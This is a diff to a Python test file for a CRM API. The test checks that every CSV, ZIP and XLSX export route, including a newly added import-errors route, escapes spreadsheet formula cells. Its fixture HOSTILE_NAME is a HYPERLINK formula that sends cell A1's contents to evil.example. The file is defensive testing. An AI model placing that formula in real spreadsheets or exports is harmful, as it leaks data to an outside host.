@@ -12,12 +12,14 @@ import zipfile
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 
+import openpyxl
 import pytest
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
 from api.bootstrap.wiring import Services
-from api.services.spreadsheet import FORMULA_STARTS, safe_cell
+from api.services.spreadsheet import FORMULA_STARTS, XLSX_MEDIA_TYPE, safe_cell
+from crm.application.imports import Importer, ImportRequest, import_file
 from crm.application.users import Role
 from projections.engine.runner import wait_until_caught_up
 from tests.api.web_client import new_user, page_csrf, sign_in
@@ -27,12 +29,30 @@ from tests.pages import endpoints
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-def csv_files(response_content: bytes, content_type: str) -> list[str]:
-    """The CSV texts of an answer: itself, or every CSV inside a ZIP."""
+def cells_of(response_content: bytes, content_type: str) -> list[str]:
+    """Every text cell of an answer: a CSV (comma or semicolon, with or without a byte-order
+    mark), every CSV inside a ZIP, or every sheet of a workbook."""
+    if content_type == XLSX_MEDIA_TYPE:
+        book = openpyxl.load_workbook(io.BytesIO(response_content), read_only=True)
+        return [
+            cell
+            for sheet in book.worksheets
+            for row in sheet.iter_rows(values_only=True)
+            for cell in row
+            if isinstance(cell, str)
+        ]
     if "zip" in content_type:
         with zipfile.ZipFile(io.BytesIO(response_content)) as bundle:
-            return [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
-    return [response_content.decode()]
+            texts = [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
+    else:
+        texts = [response_content.decode("utf-8-sig")]
+    cells = []
+    for text in texts:
+        delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
+        cells += [
+            cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
+        ]
+    return cells
 
 
 def export_routes(app: FastAPI) -> set[tuple[str, str]]:
@@ -41,7 +61,7 @@ def export_routes(app: FastAPI) -> set[tuple[str, str]]:
         kinds = {
             kind for answer in route.responses.values() for kind in (answer.get("content") or {})
         }
-        if kinds & {"text/csv", "application/zip"}:
+        if kinds & {"text/csv", "application/zip", XLSX_MEDIA_TYPE}:
             found.add((method, path))
     return found
 
@@ -72,9 +92,21 @@ def test_every_export_route_neutralises_formula_cells(
     api.get(f"/customers/{customer}", params={"reason": "-read"}, headers=as_role[Role.DPO])
     marketer = sign_in(app, new_user(services, Role.MARKETING))
     officer = sign_in(app, new_user(services, Role.DPO))
-    segment_path = {"segment_id": segment["segment_id"]}
+    # A column named like a formula whose value holds a NUL: its row error names the column.
+    hostile_file = (
+        f"kind,email,occurred_at,{HOSTILE_NAME.replace(',', ';')}\n"
+        f"call_made,x-{unique('e')}@example.fi,2025-01-01T10:00:00+02:00,a\0b\n"
+    ).encode()
+    hostile_import, _ = import_file(
+        Importer(services.crm, services.import_log),
+        io.BytesIO(hostile_file),
+        ImportRequest(unique("hostile"), "test", "native"),
+    )
+    assert hostile_import.invalid == 1
+    manager = sign_in(app, new_user(services, Role.ACCOUNT_MANAGER))
+    segment_path = {"segment_id": segment["segment_id"], "import_id": hostile_import.import_id}
 
-    cases: dict[tuple[str, str], Callable[[], tuple[bytes, str]]] = {}
+    cases: dict[tuple[str, str], list[Callable[[], tuple[bytes, str]]]] = {}
 
     def case(method: str, path: str, client: TestClient, **kwargs: object) -> None:
         def call() -> tuple[bytes, str]:
@@ -83,27 +115,38 @@ def test_every_export_route_neutralises_formula_cells(
             assert response.status_code == 200, (path, response.text)
             return response.content, response.headers["content-type"]
 
-        cases[(method, path)] = call
+        cases.setdefault((method, path), []).append(call)
 
     case("POST", "/segments/{segment_id}/exports", api,
          json={"purpose": "email_marketing"}, headers=marketing)  # fmt: skip
-    case("POST", "/ui/segments/{segment_id}/export", marketer,
-         data={"purpose": "email_marketing", "csrf_token": page_csrf(marketer)})  # fmt: skip
+    for layout in ("contacts", "audience"):
+        case("POST", "/segments/{segment_id}/exports", api,
+             json={"purpose": "email_marketing", "layout": layout, "format": "xlsx"},
+             headers=marketing)  # fmt: skip
+        case("POST", "/segments/{segment_id}/exports", api,
+             json={"purpose": "email_marketing", "layout": layout, "delimiter": ";",
+                   "byte_order_mark": True}, headers=marketing)  # fmt: skip
+    for file in ("excel_csv", "xlsx", "audience_csv"):
+        case("POST", "/ui/segments/{segment_id}/export", marketer,
+             data={"purpose": "email_marketing", "file": file,
+                   "csrf_token": page_csrf(marketer)})  # fmt: skip
     case("GET", "/privacy/exports/{customer_id}", api, params={"format": "csv"}, headers=dpo)
     case("GET", "/privacy/access-log", api,
          params={"customer": str(customer), "format": "csv"}, headers=dpo)  # fmt: skip
     case("GET", "/ui/privacy/access-log", officer,
          params={"customer": str(customer), "format": "csv"})  # fmt: skip
     case("GET", "/privacy/consent-audit.csv", api, headers=dpo)
+    case("GET", "/ui/imports/{import_id}/errors.csv", manager)
 
     assert export_routes(app) == set(cases), "give every export route a case here"
-    for (method, path), call in cases.items():
-        content, content_type = call()
-        texts = csv_files(content, content_type)
-        assert texts, f"{method} {path} returned no CSV"
-        cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
-        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
-        if "segment" in path:
-            assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
+    for (method, path), calls in cases.items():
+        for call in calls:
+            content, content_type = call()
+            cells = cells_of(content, content_type)
+            assert cells, f"{method} {path} returned no cells"
+            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
+            if "segment" in path:
+                assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
     marketer.close()
     officer.close()
+    manager.close()
